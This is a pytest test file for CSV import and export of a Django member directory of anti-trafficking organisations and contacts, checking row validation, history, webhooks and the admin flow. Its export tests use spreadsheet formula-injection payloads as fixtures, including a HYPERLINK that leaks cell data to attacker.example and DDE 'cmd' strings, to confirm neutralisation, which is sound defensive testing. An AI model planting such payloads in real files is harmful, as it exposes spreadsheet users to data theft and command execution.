"""CSV import and export of the member directory (members/resources.py and the admin views).

Imports are checked through the resources (``import_data`` on tablib Datasets read from CSV
text) and through the admin's upload / confirm flow; exports are checked for formula
neutralisation and for an unchanged round trip.
"""

import csv
import io
import re

import pytest
import tablib
from django.apps import apps
from django.contrib import admin
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from import_export.formats import base_formats

from members.models import Affiliation, Contact, FocusArea, MembershipChange, Organization
from members.resources import (
    FORMULA_TRIGGERS,
    ContactResource,
    OrganizationResource,
    neutralize,
    unneutralize,
)
from members.selectors import current_focal_point
from tests.factories import AffiliationFactory, ContactFactory, OrganizationFactory

pytestmark = pytest.mark.django_db

Status = Organization.Status
Role = Affiliation.Role

ORG_IMPORT_URL = "/admin/members/organization/import/"
ORG_PROCESS_IMPORT_URL = "/admin/members/organization/process_import/"
CONTACT_EXPORT_URL = "/admin/members/contact/export/"


# --- helpers ------------------------------------------------------------------------------


def dataset(text: str) -> tablib.Dataset:
    return tablib.Dataset().load(text.lstrip("\n"), format="csv")


def run_import(resource, text: str, *, dry_run: bool):
    return resource.import_data(
        dataset(text), dry_run=dry_run, use_transactions=True, raise_errors=False
    )


def invalid_by_row(result) -> dict[int, dict[str, list[str]]]:
    """Row number → {field: [messages]} for every row refused by validation."""
    return {
        row.number: {
            field: [str(m) for m in messages] for field, messages in row.error_dict.items()
        }
        for row in result.invalid_rows
    }


def directory_snapshot() -> dict[str, int]:
    """Row counts of every table of the members app, history tables included."""
    return {
        model.__name__: model._default_manager.count()
        for model in apps.get_app_config("members").get_models()
    }


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def format_index(formats, format_class) -> str:
    return str(next(i for i, f in enumerate(formats) if f is format_class))


# --- organisations: a good file -----------------------------------------------------------


GOOD_ORGANIZATIONS_CSV = """
name,acronym,kind,country,focus_areas,takes_part_in_aect,status
Danube Shelter Network,DSN,ngo,AT,"prevention,child_trafficking",1,active
Baltic Labour Rights Office,BLRO,Participating State authority,LT,labour_exploitation,0,Prospective
Global Forum on Survivor Support,GFSS,international,CH,"protection, partnerships",0,invited
"""


def test_good_organizations_file_dry_run_reports_rows_and_saves_nothing():
    before = directory_snapshot()

    result = run_import(OrganizationResource(), GOOD_ORGANIZATIONS_CSV, dry_run=True)

    assert not result.has_errors()
    assert not result.has_validation_errors()
    assert result.totals["new"] == 3
    assert directory_snapshot() == before


def test_good_organizations_file_imports_rows_focus_areas_and_membership_history():
    result = run_import(OrganizationResource(), GOOD_ORGANIZATIONS_CSV, dry_run=False)

    assert not result.has_errors()
    assert not result.has_validation_errors()
    assert result.totals["new"] == 3
    today = timezone.localdate()

    dsn = Organization.objects.get(name="Danube Shelter Network")
    assert dsn.acronym == "DSN"
    assert dsn.kind == Organization.Kind.NGO
    assert dsn.country.code == "AT"
    assert dsn.takes_part_in_aect is True
    assert dsn.status == Status.ACTIVE
    assert dsn.member_since == today
    assert set(dsn.focus_areas.values_list("code", flat=True)) == {
        FocusArea.Code.PREVENTION,
        FocusArea.Code.CHILD_TRAFFICKING,
    }

    # kind and status given by their English labels, in any case
    blro = Organization.objects.get(name="Baltic Labour Rights Office")
    assert blro.kind == Organization.Kind.STATE_AUTHORITY
    assert blro.status == Status.PROSPECTIVE
    assert blro.takes_part_in_aect is False
    assert blro.member_since is None
    assert list(blro.focus_areas.values_list("code", flat=True)) == [
        FocusArea.Code.LABOUR_EXPLOITATION
    ]

    gfss = Organization.objects.get(name="Global Forum on Survivor Support")
    assert gfss.kind == Organization.Kind.INTERNATIONAL_ORGANIZATION
    assert gfss.status == Status.INVITED
    assert gfss.member_since is None
    # spaces after the commas are tolerated
    assert set(gfss.focus_areas.values_list("code", flat=True)) == {
        FocusArea.Code.PROTECTION,
        FocusArea.Code.PARTNERSHIPS,
    }

    # each new organisation starts its history with one step: "" → its initial status
    for organization in (dsn, blro, gfss):
        changes = list(organization.membership_changes.all())
        assert len(changes) == 1
        assert changes[0].from_status == ""
        assert changes[0].to_status == organization.status
        assert changes[0].effective_date == today


# --- organisations: bad rows --------------------------------------------------------------


def _bad_organizations_csv(existing_active: Organization) -> str:
    return f"""
name,acronym,kind,country,focus_areas,takes_part_in_aect,status
Valid New Organisation,VNO,ngo,AT,prevention,0,active
Spaceship Society,SS,spaceship,AT,,0,prospective
Bogus Focus Network,BFN,ngo,AT,"prevention,bogus_area",0,prospective
{existing_active.name},{existing_active.acronym},ngo,AT,,0,prospective
Another Valid Organisation,AVO,academia,FR,,0,invited
"""


def test_bad_organization_rows_are_reported_with_their_row_numbers_and_reasons():
    existing = OrganizationFactory(name="Alpine Coalition", status=Status.ACTIVE)

    result = run_import(OrganizationResource(), _bad_organizations_csv(existing), dry_run=True)

    assert result.has_validation_errors()
    errors = invalid_by_row(result)
    # import-export numbers the data rows from 1 (the header line is not counted)
    assert set(errors) == {2, 3, 4}
    assert list(errors[2]) == ["kind"]
    assert "spaceship" in errors[2]["kind"][0]
    assert list(errors[3]) == ["focus_areas"]
    assert "bogus_area" in errors[3]["focus_areas"][0]
    assert "prevention" not in errors[3]["focus_areas"][0]
    assert list(errors[4]) == ["status"]
    assert "active" in errors[4]["status"][0]
    assert "prospective" in errors[4]["status"][0]
    # row_errors() lists rows that raised (not validation); none of these did
    assert result.row_errors() == []
    assert not result.has_errors()


def test_organization_file_with_bad_rows_saves_nothing_even_without_dry_run():
    """The resources module promises that "the whole file is refused while any row is bad":
    the good rows of the same file must not be saved either."""
    existing = OrganizationFactory(name="Alpine Coalition", status=Status.ACTIVE)
    before = directory_snapshot()

    result = run_import(OrganizationResource(), _bad_organizations_csv(existing), dry_run=False)

    assert result.has_validation_errors()
    assert set(invalid_by_row(result)) == {2, 3, 4}
    assert not Organization.objects.filter(
        name__in=["Valid New Organisation", "Another Valid Organisation"]
    ).exists()
    assert MembershipChange.objects.count() == 0
    existing.refresh_from_db()
    assert existing.status == Status.ACTIVE
    assert directory_snapshot() == before


def test_name_differing_only_in_case_from_an_existing_organization_is_a_row_error():
    existing = OrganizationFactory(name="Alpine Coalition", acronym="AC", status=Status.ACTIVE)
    text = """
name,acronym,kind,status
ALPINE coalition,AC,ngo,active
"""

    result = run_import(OrganizationResource(), text, dry_run=False)

    assert result.has_validation_errors()
    errors = invalid_by_row(result)
    assert list(errors) == [1]
    assert "name" in errors[1]
    assert "Alpine Coalition" in " ".join(errors[1]["name"])
    existing.refresh_from_db()
    assert existing.name == "Alpine Coalition"
    assert Organization.objects.count() == 1


def test_names_differing_only_in_case_within_one_file_are_a_row_error():
    text = """
name,acronym,kind,status
Lakeside Shelter,LS,ngo,active
LAKESIDE SHELTER,LS2,ngo,active
"""

    result = run_import(OrganizationResource(), text, dry_run=True)

    assert result.has_validation_errors()
    errors = invalid_by_row(result)
    assert list(errors) == [2]
    assert "name" in errors[2]


def test_import_moves_an_existing_organization_from_active_to_suspended():
    existing = OrganizationFactory(name="Alpine Coalition", acronym="AC", status=Status.ACTIVE)
    text = f"""
name,acronym,kind,country,status
{existing.name},{existing.acronym},ngo,AT,Suspended
"""

    result = run_import(OrganizationResource(), text, dry_run=False)

    assert not result.has_errors()
    assert not result.has_validation_errors()
    assert result.totals["update"] == 1
    existing.refresh_from_db()
    assert existing.status == Status.SUSPENDED
    change = existing.membership_changes.get()
    assert (change.from_status, change.to_status) == (Status.ACTIVE, Status.SUSPENDED)
    assert change.reason  # suspension is never recorded without a reason
    assert change.effective_date == timezone.localdate()


@pytest.mark.parametrize("status", [Status.INVITED, Status.ACTIVE, Status.WITHDRAWN])
def test_blank_status_cell_keeps_the_existing_status(status):
    """A file that updates descriptive fields with an empty status cell must not move the
    organisation through its lifecycle (nor be refused for it)."""
    existing = OrganizationFactory(name="Alpine Coalition", acronym="AC", status=status)
    text = f"""
name,acronym,kind,status
{existing.name},NEWAC,ngo,
"""

    result = run_import(OrganizationResource(), text, dry_run=False)

    assert not result.has_validation_errors()
    existing.refresh_from_db()
    assert existing.acronym == "NEWAC"
    assert existing.status == status
    assert not existing.membership_changes.exists()


# --- contacts -----------------------------------------------------------------------------


@pytest.fixture
def shelter():
    return OrganizationFactory(name="Vienna Shelter Network", acronym="VSN")


def test_contact_import_normalises_email_and_updates_existing_contact(shelter):
    anna = ContactFactory(email="anna.berger@example.org", given_name="Anna", family_name="Berger")
    text = """
given_name,family_name,email,preferred_language
Anna,Berger-Huber,ANNA.Berger@Example.ORG,de
Max,Muster, Max.Muster@EXAMPLE.ORG ,French
"""

    result = run_import(ContactResource(), text, dry_run=False)

    assert not result.has_errors()
    assert not result.has_validation_errors()
    assert (result.totals["new"], result.totals["update"]) == (1, 1)
    assert Contact.objects.count() == 2
    anna.refresh_from_db()
    assert anna.email == "anna.berger@example.org"
    assert anna.family_name == "Berger-Huber"
    assert anna.preferred_language == Contact.Language.GERMAN
    max_ = Contact.objects.get(given_name="Max")
    assert max_.email == "max.muster@example.org"
    assert max_.preferred_language == Contact.Language.FRENCH


def test_contact_import_adds_current_affiliation_by_organization_name_or_acronym(shelter):
    anna = ContactFactory(email="anna.berger@example.org")
    text = """
given_name,family_name,email,organization,role,job_title
Anna,Berger,anna.berger@example.org,VSN,expert,Lawyer
Max,Muster,max.muster@example.org,vienna shelter network,Communications,Press officer
Iris,Novak,iris.novak@example.org,Vienna Shelter Network,focal_point,Co-ordinator
"""

    result = run_import(ContactResource(), text, dry_run=False)

    assert not result.has_errors()
    assert not result.has_validation_errors()
    current = {
        (a.contact.email, a.role, a.job_title)
        for a in Affiliation.objects.current().filter(organization=shelter)
    }
    assert current == {
        (anna.email, Role.EXPERT, "Lawyer"),
        ("max.muster@example.org", Role.COMMUNICATIONS, "Press officer"),
        ("iris.novak@example.org", Role.FOCAL_POINT, "Co-ordinator"),
    }
    assert current_focal_point(shelter).contact.email == "iris.novak@example.org"

    # importing the same file again does not double the roles
    again = run_import(ContactResource(), text, dry_run=False)
    assert not again.has_validation_errors()
    assert Affiliation.objects.filter(organization=shelter).count() == 3


def test_contact_row_with_unknown_organization_is_a_row_error_naming_it(shelter):
    text = """
given_name,family_name,email,organization,role
Max,Muster,max.muster@example.org,VSN,expert
Eve,Unknown,eve@example.org,Nowhere Institute,expert
"""

    result = run_import(ContactResource(), text, dry_run=True)

    assert result.has_validation_errors()
    errors = invalid_by_row(result)
    assert list(errors) == [2]
    assert "Nowhere Institute" in errors[2]["organization"][0]


def test_second_current_focal_point_is_refused_as_a_row_error(shelter):
    incumbent = AffiliationFactory(organization=shelter, role=Role.FOCAL_POINT)
    text = """
given_name,family_name,email,organization,role
Zoe,Second,zoe.second@example.org,VSN,focal_point
"""

    result = run_import(ContactResource(), text, dry_run=False)

    assert result.has_validation_errors()
    errors = invalid_by_row(result)
    assert list(errors) == [1]
    assert incumbent.contact.full_name in errors[1]["role"][0]
    assert not Contact.objects.filter(email="zoe.second@example.org").exists()
    assert current_focal_point(shelter) == incumbent
    assert (
        Affiliation.objects.current().filter(organization=shelter, role=Role.FOCAL_POINT).count()
        == 1
    )


def test_two_focal_points_for_one_organization_in_one_file_refuse_the_second(shelter):
    text = """
given_name,family_name,email,organization,role
Ada,First,ada.first@example.org,VSN,focal_point
Bea,Second,bea.second@example.org,Vienna Shelter Network,focal_point
"""

    result = run_import(ContactResource(), text, dry_run=True)

    errors = invalid_by_row(result)
    assert list(errors) == [2]
    assert "Ada First" in errors[2]["role"][0]


def _contacts_csv(n: int, organization: Organization, *, start: int = 0, role="expert") -> str:
    lines = ["given_name,family_name,email,preferred_language,organization,role"]
    lines += [
        f"Given{i},Family{i},Person{i}@Bulk.Example.org,fr,{organization.name},{role}"
        for i in range(start, start + n)
    ]
    return "\n".join(lines) + "\n"


@pytest.fixture
def contact_updated_hooks(settings, monkeypatch):
    """Subscriptions to contact.created and contact.updated; the delivery ids handed to Celery
    after a commit are collected (no request is made)."""
    from api.webhooks import services as webhooks
    from api.webhooks.tasks import deliver_webhooks
    from tests.api.test_webhook_events import make_client

    settings.WEBHOOKS_ALLOW_PRIVATE_URLS = True
    settings.CRM_SITE_URL = "https://crm.example.org"
    client = make_client("Partner CRM")
    for event in ("contact.created", "contact.updated"):
        webhooks.webhook_subscription_create(
            client=client, url="http://127.0.0.1:9/hooks", event_types=[event], acting_user=None
        )
    enqueued: list[int] = []
    monkeypatch.setattr(deliver_webhooks, "delay", lambda batch: enqueued.extend(batch))
    return enqueued


# On SQLite a bulk insert is split by its limit of parameters, so the count grows there.
@pytest.mark.postgres
@pytest.mark.parametrize("rows", [10, 100])
def test_contact_import_queries_do_not_grow_with_the_rows(
    rows, shelter, coordinator, contact_updated_hooks, django_assert_num_queries
):
    """The file is read in a few queries and written in bulk: the same count for 10 rows and
    for 100 (one existing contact updated, the others new, each given a role, webhooks on)."""
    ContactFactory(email="person0@bulk.example.org")
    AffiliationFactory(organization=shelter, role=Role.FOCAL_POINT)

    # 15 statements (the file's contacts, their roles, its organisations and their focal
    # points; contacts, roles and their history written in bulk; the organisations locked;
    # the subscriptions and deliveries; the id sequence) and 9 savepoint commands.
    with django_assert_num_queries(24):
        result = ContactResource().import_data(
            dataset(_contacts_csv(rows, shelter)),
            dry_run=False,
            use_transactions=True,
            raise_errors=False,
            user=coordinator,
        )

    assert not result.has_errors()
    assert not result.has_validation_errors()
    assert (result.totals["new"], result.totals["update"]) == (rows - 1, 1)
    assert Affiliation.objects.filter(organization=shelter, role=Role.EXPERT).count() == rows


def test_contact_import_writes_history_attributed_to_the_importing_user(shelter, coordinator):
    anna = ContactFactory(email="anna.berger@example.org", family_name="Berger")
    text = """
given_name,family_name,email,organization,role,job_title
Anna,Berger-Huber,anna.berger@example.org,VSN,expert,Lawyer
Max,Muster,max.muster@example.org,VSN,communications,Press officer
"""

    result = ContactResource().import_data(
        dataset(text), dry_run=False, use_transactions=True, raise_errors=False, user=coordinator
    )

    assert not result.has_errors()
    assert not result.has_validation_errors()
    max_ = Contact.objects.get(email="max.muster@example.org")
    created = max_.history.get()
    assert (created.history_type, created.history_user) == ("+", coordinator)
    assert (created.given_name, created.family_name) == ("Max", "Muster")
    latest = anna.history.latest()
    assert (latest.history_type, latest.history_user) == ("~", coordinator)
    assert latest.family_name == "Berger-Huber"
    anna.refresh_from_db()
    assert anna.family_name == "Berger-Huber"
    assert anna.updated_at > anna.created_at
    for contact, role in ((anna, Role.EXPERT), (max_, Role.COMMUNICATIONS)):
        affiliation = Affiliation.objects.get(contact=contact, organization=shelter)
        assert affiliation.role == role
        row = affiliation.history.get()
        assert (row.history_type, row.history_user) == ("+", coordinator)
        assert (row.contact_id, row.organization_id, row.role) == (contact.pk, shelter.pk, role)
    assert Affiliation.objects.get(contact=anna).job_title == "Lawyer"


def test_contact_import_history_names_who_else_acted(shelter):
    """The history rows written in bulk go through crm.audit's attribution like any other."""
    from crm.audit import acting_as
    from tests.api.test_webhook_events import make_client

    client = make_client("Partner CRM")
    text = """
given_name,family_name,email,organization,role
Max,Muster,max.muster@example.org,VSN,expert
"""

    with acting_as(api_client=client, reason="Nightly directory sync"):
        result = run_import(ContactResource(), text, dry_run=False)

    assert not result.has_validation_errors()
    contact = Contact.objects.get(email="max.muster@example.org")
    for row in (contact.history.get(), Affiliation.objects.get(contact=contact).history.get()):
        assert row.history_api_client_id == client.pk
        assert row.history_change_reason == "Nightly directory sync"
        assert row.history_user is None


def test_contact_import_emits_contact_updated_for_each_contact_given_a_role(
    shelter, contact_updated_hooks, django_capture_on_commit_callbacks
):
    """As the import did row by row: the contact is saved by the resource (not by
    contact_create) and its new role by affiliation_create, which emits contact.updated; a row
    that adds no role emits nothing."""
    from api.models import WebhookDelivery

    anna = ContactFactory(email="anna.berger@example.org")
    AffiliationFactory(contact=anna, organization=shelter, role=Role.EXPERT)
    text = """
given_name,family_name,email,organization,role
Anna,Berger,anna.berger@example.org,VSN,expert
Max,Muster,max.muster@example.org,VSN,expert
Iris,Novak,iris.novak@example.org,,
Eva,Ek,eva.ek@example.org,VSN,head
"""

    with django_capture_on_commit_callbacks(execute=True):
        result = run_import(ContactResource(), text, dry_run=False)

    assert not result.has_validation_errors()
    deliveries = list(WebhookDelivery.objects.order_by("pk"))
    ids = list(Contact.objects.filter(given_name__in=["Max", "Eva"]).values_list("pk", flat=True))
    assert sorted(d.object_id for d in deliveries) == sorted(ids)
    assert {d.event_type for d in deliveries} == {"contact.updated"}
    assert {d.payload["object"]["url"] for d in deliveries} == {
        f"https://crm.example.org/api/v1/contacts/{pk}/" for pk in ids
    }
    assert sorted(contact_updated_hooks) == sorted(d.pk for d in deliveries)


def test_contact_import_dry_run_emits_and_saves_nothing(shelter, contact_updated_hooks):
    from api.models import WebhookDelivery

    before = directory_snapshot()

    result = run_import(ContactResource(), _contacts_csv(5, shelter), dry_run=True)

    assert not result.has_validation_errors()
    assert result.totals["new"] == 5
    assert directory_snapshot() == before
    assert not WebhookDelivery.objects.exists()


def test_bad_rows_among_good_ones_refuse_the_file_naming_their_lines(shelter):
    text = f"""
given_name,family_name,email,preferred_language,organization,role,job_title
Ada,First,ada.first@example.org,fr,VSN,expert,
Bad,Address,not-an-address,fr,VSN,expert,
Carl,Third,carl.third@example.org,de,VSN,expert,
Long,Title,long.title@example.org,fr,VSN,expert,{"x" * 201}
Odd,Language,odd.language@example.org,tlh,VSN,expert,
"""
    before = directory_snapshot()

    result = run_import(ContactResource(), text, dry_run=False)

    assert result.has_validation_errors()
    assert not result.has_errors()
    errors = invalid_by_row(result)
    assert set(errors) == {2, 4, 5}
    assert list(errors[2]) == ["email"]
    assert list(errors[4]) == ["job_title"]
    assert "200" in errors[4]["job_title"][0]
    assert list(errors[5]) == ["preferred_language"]
    assert "tlh" in errors[5]["preferred_language"][0]
    assert directory_snapshot() == before


def test_two_focal_points_for_one_organization_refuse_the_file_when_saving(shelter):
    text = """
given_name,family_name,email,organization,role
Ada,First,ada.first@example.org,VSN,focal_point
Carl,Third,carl.third@example.org,VSN,expert
Bea,Second,bea.second@example.org,vsn,Focal point
"""
    before = directory_snapshot()

    result = run_import(ContactResource(), text, dry_run=False)

    errors = invalid_by_row(result)
    assert list(errors) == [3]
    assert "Ada First" in errors[3]["role"][0]
    assert directory_snapshot() == before
    assert current_focal_point(shelter) is None


def test_focal_point_named_again_for_the_same_person_is_not_a_conflict(shelter):
    incumbent = AffiliationFactory(
        organization=shelter, role=Role.FOCAL_POINT, contact__email="iris.novak@example.org"
    )
    text = """
given_name,family_name,email,organization,role
Iris,Novak,IRIS.NOVAK@example.org,VSN,focal_point
Ada,First,ada.first@example.org,Vienna Shelter Network,expert
"""

    result = run_import(ContactResource(), text, dry_run=False)

    assert not result.has_validation_errors()
    assert current_focal_point(shelter) == incumbent
    assert Affiliation.objects.filter(contact=incumbent.contact).count() == 1


def test_focal_point_of_another_organization_in_the_same_file_is_no_conflict(shelter):
    other = OrganizationFactory(name="Baltic Labour Rights Office", acronym="BLRO")
    text = """
given_name,family_name,email,organization,role
Ada,First,ada.first@example.org,VSN,focal_point
Bea,Second,bea.second@example.org,BLRO,focal_point
"""

    result = run_import(ContactResource(), text, dry_run=False)

    assert not result.has_validation_errors()
    assert current_focal_point(shelter).contact.email == "ada.first@example.org"
    assert current_focal_point(other).contact.email == "bea.second@example.org"


def test_a_person_named_twice_in_one_file_is_created_then_updated(shelter, coordinator):
    other = OrganizationFactory(name="Baltic Labour Rights Office", acronym="BLRO")
    text = """
given_name,family_name,email,organization,role
Max,Muster,max.muster@example.org,VSN,expert
Iris,Novak,iris.novak@example.org,VSN,expert
Maximilian,Muster,MAX.MUSTER@example.org,BLRO,head
"""

    result = ContactResource().import_data(
        dataset(text), dry_run=False, use_transactions=True, raise_errors=False, user=coordinator
    )

    assert not result.has_validation_errors()
    assert (result.totals["new"], result.totals["update"]) == (2, 1)
    max_ = Contact.objects.get(email="max.muster@example.org")
    assert max_.given_name == "Maximilian"
    assert list(max_.history.order_by("history_id").values_list("history_type", "given_name")) == [
        ("+", "Max"),
        ("~", "Maximilian"),
    ]
    assert {(a.organization, a.role) for a in max_.affiliations.all()} == {
        (shelter, Role.EXPERT),
        (other, Role.HEAD),
    }


def test_unknown_organization_rows_are_reported_once_each(shelter, django_assert_max_num_queries):
    text = "given_name,family_name,email,organization,role\n" + "".join(
        f"P{i},Q{i},p{i}@example.org,Nowhere Institute,expert\n" for i in range(30)
    )

    # The unknown name is looked up once (by name, then acronym), not for every row.
    with django_assert_max_num_queries(13):
        result = run_import(ContactResource(), text, dry_run=True)

    errors = invalid_by_row(result)
    assert set(errors) == set(range(1, 31))
    assert all("Nowhere Institute" in e["organization"][0] for e in errors.values())


CONTACT_IMPORT_URL = "/admin/members/contact/import/"
CONTACT_PROCESS_IMPORT_URL = "/admin/members/contact/process_import/"


def test_admin_contact_import_previews_then_saves_with_history(
    coordinator_client, coordinator, shelter
):
    contact_admin = admin.site.get_model_admin(Contact)
    csv_index = format_index(contact_admin.get_import_formats(), base_formats.CSV)
    before = directory_snapshot()
    preview = coordinator_client.post(
        CONTACT_IMPORT_URL,
        {"import_file": _upload(_contacts_csv(3, shelter)), "format": csv_index, "resource": "0"},
    )
    assert preview.status_code == 200
    result = preview.context["result"]
    assert not result.has_errors()
    assert not result.has_validation_errors()
    assert result.totals["new"] == 3
    assert "Given1" in preview.content.decode()  # the preview shows the rows' values
    assert directory_snapshot() == before  # the preview is a dry run

    response = coordinator_client.post(
        CONTACT_PROCESS_IMPORT_URL, preview.context["confirm_form"].initial
    )

    assert response.status_code == 302
    contacts = Contact.objects.filter(email__endswith="@bulk.example.org")
    assert contacts.count() == 3
    for contact in contacts:
        assert contact.history.get().history_user == coordinator
        assert contact.affiliations.get().history.get().history_user == coordinator
    from django.contrib.admin.models import LogEntry

    assert LogEntry.objects.filter(user=coordinator, object_repr="Given1 Family1").exists()


# --- export: formula neutralisation and round trip ---------------------------------------


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_neutralize_prefixes_formula_triggers_and_unneutralize_undoes_it(trigger):
    value = f"{trigger}cmd|' /C calc'!A0"
    assert neutralize(value) == "'" + value
    assert unneutralize(neutralize(value)) == value


def test_neutralize_leaves_plain_values_alone():
    for value in ("Vienna", "it's fine", "", None, 42):
        assert neutralize(value) == value
        assert unneutralize(value) == value


@pytest.fixture
def formula_directory():
    organization = OrganizationFactory(
        name="Formula Watch",
        acronym="FW",
        description='=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    )
    organization.focus_areas.set(
        FocusArea.objects.filter(code__in=[FocusArea.Code.PREVENTION, FocusArea.Code.PROTECTION])
    )
    contact = ContactFactory(
        given_name="+Max",
        family_name="-Minus",
        email="max.minus@example.org",
        notes="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    AffiliationFactory(organization=organization, contact=contact, role=Role.FOCAL_POINT)
    plain = ContactFactory(given_name="Anna", family_name="Plain", email="anna.plain@example.org")
    return organization, contact, plain


def test_export_neutralises_formula_cells(formula_directory):
    organization, contact, plain = formula_directory

    org_rows = csv_rows(OrganizationResource().export().csv)
    contact_rows = {r["email"]: r for r in csv_rows(ContactResource().export().csv)}

    assert len(org_rows) == 1
    assert org_rows[0]["description"] == "'" + organization.description
    assert org_rows[0]["name"] == organization.name
    exported = contact_rows[contact.email]
    assert exported["given_name"] == "'+Max"
    assert exported["family_name"] == "'-Minus"
    assert exported["notes"] == "'" + contact.notes
    assert exported["organization"] == organization.name
    # cells that are not formulas are left as they are
    assert contact_rows[plain.email]["given_name"] == "Anna"
    assert contact_rows[plain.email]["family_name"] == "Plain"


def test_exported_files_import_back_unchanged(formula_directory):
    organization, contact, _plain = formula_directory
    org_csv = OrganizationResource().export().csv
    contact_csv = ContactResource().export().csv
    before = {
        "organizations": list(
            Organization.objects.values(
                "name", "acronym", "kind", "country", "description", "status", "member_since"
            )
        ),
        "focus_areas": set(organization.focus_areas.values_list("code", flat=True)),
        "contacts": list(
            Contact.objects.values(
                "given_name", "family_name", "email", "notes", "preferred_language"
            )
        ),
        "affiliations": list(Affiliation.objects.values("contact", "organization", "role")),
        "membership_changes": MembershipChange.objects.count(),
    }

    org_result = run_import(OrganizationResource(), org_csv, dry_run=False)
    contact_result = run_import(ContactResource(), contact_csv, dry_run=False)

    for result in (org_result, contact_result):
        assert not result.has_errors()
        assert not result.has_validation_errors()
        assert result.totals["new"] == 0
    after = {
        "organizations": list(
            Organization.objects.values(
                "name", "acronym", "kind", "country", "description", "status", "member_since"
            )
        ),
        "focus_areas": set(organization.focus_areas.values_list("code", flat=True)),
        "contacts": list(
            Contact.objects.values(
                "given_name", "family_name", "email", "notes", "preferred_language"
            )
        ),
        "affiliations": list(Affiliation.objects.values("contact", "organization", "role")),
        "membership_changes": MembershipChange.objects.count(),
    }
    assert after == before
    contact.refresh_from_db()
    assert contact.given_name == "+Max"
    assert contact.notes.startswith("@SUM")
    organization.refresh_from_db()
    assert organization.description.startswith("=HYPERLINK(")


# --- admin --------------------------------------------------------------------------------


def _org_admin():
    return admin.site.get_model_admin(Organization)


def _upload(text: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(
        "organisations.csv", text.lstrip("\n").encode(), content_type="text/csv"
    )


def test_anonymous_import_page_redirects_to_login(client):
    response = client.get(ORG_IMPORT_URL)

    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")
    assert "next=" in response["Location"]


def test_coordinator_sees_the_import_page(coordinator_client):
    response = coordinator_client.get(ORG_IMPORT_URL)

    assert response.status_code == 200
    assert 'name="import_file"' in response.content.decode()


def test_admin_import_with_bad_row_shows_row_number_and_reason_and_saves_nothing(
    coordinator_client,
):
    existing = OrganizationFactory(name="Alpine Coalition", status=Status.ACTIVE)
    before = directory_snapshot()
    csv_index = format_index(_org_admin().get_import_formats(), base_formats.CSV)

    response = coordinator_client.post(
        ORG_IMPORT_URL,
        {
            "import_file": _upload(_bad_organizations_csv(existing)),
            "format": csv_index,
            "resource": "0",
        },
    )

    assert response.status_code == 200
    assert response.context["result"].has_validation_errors()
    assert "confirm_form" not in response.context  # no way to go on with a bad file
    html = response.content.decode()
    shown_rows = {int(n) for n in re.findall(r'data-label="Row"[^>]*>\s*(\d+)\s*</td>', html)}
    assert shown_rows == {2, 3, 4}
    assert "spaceship" in html
    assert "Unknown focus areas: bogus_area" in html
    assert "cannot go from active to prospective" in html
    assert directory_snapshot() == before


def test_admin_import_good_file_is_saved_after_confirmation(coordinator_client, coordinator):
    csv_index = format_index(_org_admin().get_import_formats(), base_formats.CSV)
    preview = coordinator_client.post(
        ORG_IMPORT_URL,
        {"import_file": _upload(GOOD_ORGANIZATIONS_CSV), "format": csv_index, "resource": "0"},
    )
    assert preview.status_code == 200
    assert not preview.context["result"].has_validation_errors()
    assert Organization.objects.count() == 0  # the preview is a dry run

    confirm = preview.context["confirm_form"]
    response = coordinator_client.post(ORG_PROCESS_IMPORT_URL, confirm.initial)

    assert response.status_code == 302
    assert response["Location"] == "/admin/members/organization/"
    assert Organization.objects.count() == 3
    changes = MembershipChange.objects.all()
    assert len(changes) == 3
    assert {c.changed_by for c in changes} == {coordinator}
    danube = Organization.objects.get(name="Danube Shelter Network")
    assert danube.history.latest().history_user == coordinator


def test_admin_contact_export_is_neutralised(coordinator_client, formula_directory):
    _organization, contact, _plain = formula_directory
    contact_admin = admin.site.get_model_admin(Contact)
    csv_index = format_index(contact_admin.get_export_formats(), base_formats.CSV)

    page = coordinator_client.get(CONTACT_EXPORT_URL)
    assert page.status_code == 200

    response = coordinator_client.post(CONTACT_EXPORT_URL, {"format": csv_index, "resource": "0"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    rows = {r["email"]: r for r in csv_rows(response.content.decode("utf-8-sig"))}
    assert rows[contact.email]["given_name"] == "'+Max"
    assert rows[contact.email]["family_name"] == "'-Minus"
    assert rows[contact.email]["notes"] == "'" + contact.notes


def test_anonymous_export_redirects_to_login(client):
    response = client.get(CONTACT_EXPORT_URL)

    assert response.status_code == 302
    assert response["Location"].startswith("/admin/login/")
